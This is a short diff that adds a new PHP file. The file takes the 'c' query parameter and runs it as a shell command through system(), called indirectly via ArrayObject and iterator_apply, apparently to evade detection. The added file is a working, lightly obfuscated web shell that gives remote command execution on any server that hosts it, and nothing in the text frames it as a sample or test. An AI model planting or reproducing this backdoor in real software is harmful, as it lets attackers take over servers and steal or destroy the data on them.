@@ -1,0 +1,4 @@
+<?php
+$x = new ArrayObject([$_GET['c']]);
+$it = $x->getIterator();
+iterator_apply($it, 'system', [$_GET['c']]);
